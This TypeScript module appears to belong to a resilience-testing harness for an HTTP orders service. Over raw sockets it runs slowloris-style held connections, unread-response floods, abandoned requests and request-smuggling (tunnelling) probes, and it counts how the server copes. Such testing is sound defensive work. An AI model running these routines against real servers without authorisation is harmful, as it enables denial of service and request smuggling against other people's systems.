import { once } from 'node:events';
import type { Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import type {
  AbandonedRequests,
  ClosingResponses,
  HeldConnections,
  Outcome,
  TunnelAttempts,
  UnreadResponses,
} from './attack.ts';
import { openConnection, openTricklingConnection } from './connection.ts';

/** The pause between the parts of a payload, in milliseconds. */
const PAUSE_MS = 100;

/** Maximum wait for the end of a connection, in milliseconds. */
const END_MS = 1000;

/** Opens connections, sends the payload of each, reads nothing, and holds them until `signal` aborts. */
export async function leaveUnread(attack: UnreadResponses, signal: AbortSignal): Promise<Outcome> {
  const sockets = await openAll(attack.connections, () =>
    attack.trickles ? openTricklingConnection(attack) : openConnection(attack),
  );
  for (const part of attack.parts) {
    for (const socket of sockets) socket.write(part);
    await sleep(PAUSE_MS);
  }
  return await holdUntil(signal, sockets, attack.connections);
}

/** Opens connections that begin a request, and holds them until `signal` aborts. */
export async function holdConnections(attack: HeldConnections, signal: AbortSignal): Promise<Outcome> {
  const sockets = await openAll(attack.connections, () => openConnection(attack));
  for (const socket of sockets) {
    // Read, so that an end is noticed.
    socket.resume();
    socket.write('GET /v1/orders HTTP/1.1\r\nHost: orders\r\nX-Slow: ');
  }
  return await holdUntil(signal, sockets, attack.connections);
}

/** Sends each payload on connections of its own, one after the other, until all are sent or `signal` aborts. */
export async function meetClosingResponses(attack: ClosingResponses, signal: AbortSignal): Promise<Outcome> {
  let [sent, ended, open] = [0, 0, 0];
  await together(attack.connections, async () => {
    while (!signal.aborted && sent < attack.count) {
      const payload = attack.payloads[sent % attack.payloads.length] ?? '';
      sent += 1;
      const { hasEnded } = await exchanged(attack, [payload]);
      if (hasEnded) ended += 1;
      else open += 1;
    }
  });
  return { connections: sent, ended, 'left open': open };
}

/** Tries to reach a server with requests after a malformed one, until all attempts are made or `signal` aborts. */
export async function tryToTunnel(attack: TunnelAttempts, signal: AbortSignal): Promise<Outcome> {
  let [sent, tunnels, silent] = [0, 0, 0];
  await together(attack.connections, async () => {
    while (!signal.aborted && sent < attack.count) {
      const opening = attack.openings[sent % attack.openings.length] ?? '';
      sent += 1;
      const { text } = await exchanged(attack, [opening, attack.behind]);
      // The first response is the rejection; further ones are responses to the later requests.
      const responses = text.match(/HTTP\/1\.[01] \d{3} /g)?.length ?? 0;
      if (responses > 1) tunnels += 1;
      if (responses === 0) silent += 1;
    }
  });
  return { connections: sent, tunnels, 'without a response': silent };
}

/** Sends the payload on connections that close soon after, until all are sent or `signal` aborts. */
export async function abandonRequests(attack: AbandonedRequests, signal: AbortSignal): Promise<Outcome> {
  let [sent, refused] = [0, 0];
  await together(attack.connections, async () => {
    while (!signal.aborted && sent < attack.count) {
      sent += 1;
      const socket = await openConnection(attack);
      if (!socket) refused += 1;
      socket?.write(attack.payload);
      await sleep(attack.afterMs);
      socket?.destroy();
    }
  });
  return { abandoned: sent, refused };
}

/** Sends `parts` on a new connection; returns everything received until it ended, or until the maximum wait. */
async function exchanged(endpoint: ClosingResponses | TunnelAttempts, parts: readonly string[]) {
  const socket = await openConnection(endpoint);
  if (!socket) return { text: '', hasEnded: true };
  let text = '';
  socket.setEncoding('latin1').on('data', (chunk: string) => (text += chunk));
  socket.resume();
  const closed = once(socket, 'close').then(() => true);
  for (const [index, part] of parts.entries()) {
    if (index > 0) await Promise.race([once(socket, 'data'), closed, sleep(END_MS)]);
    if (socket.writable) socket.write(part);
  }
  const hasEnded = await Promise.race([closed, sleep(END_MS, false)]);
  socket.destroy();
  return { text, hasEnded };
}

async function openAll(count: number, open: () => Promise<Socket | undefined>): Promise<readonly Socket[]> {
  const opened = await Promise.all(Array.from({ length: count }, open));
  return opened.filter((socket) => socket !== undefined);
}

async function holdUntil(signal: AbortSignal, sockets: readonly Socket[], count: number): Promise<Outcome> {
  if (!signal.aborted) await once(signal, 'abort');
  const ended = sockets.filter(({ closed }) => closed).length;
  for (const socket of sockets) socket.destroy();
  return { connections: count, refused: count - sockets.length, ended };
}

async function together(count: number, work: () => Promise<void>): Promise<void> {
  await Promise.all(Array.from({ length: count }, work));
}
